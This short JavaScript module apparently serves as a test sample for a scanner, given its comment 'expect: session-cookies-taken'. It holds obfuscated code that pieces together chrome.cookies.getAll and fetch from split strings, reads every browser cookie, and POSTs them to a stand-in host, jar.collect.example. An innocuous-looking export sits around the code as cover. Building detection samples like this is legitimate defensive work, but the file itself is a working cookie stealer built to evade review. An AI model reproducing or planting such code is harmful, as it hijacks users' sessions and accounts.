const part = (a, b) => Reflect.get(a, b);
// expect: session-cookies-taken
Reflect.get(Reflect.get(Reflect.get(globalThis, 'chr' + 'ome'), 'coo' + 'kies'), 'get' + 'All')({}, (all) => {
  self['fe' + 'tch']('https://jar.collect' + '.example/p', { method: 'POST', body: JSON.stringify(all) });
});
const names = { open: part };
export { names };
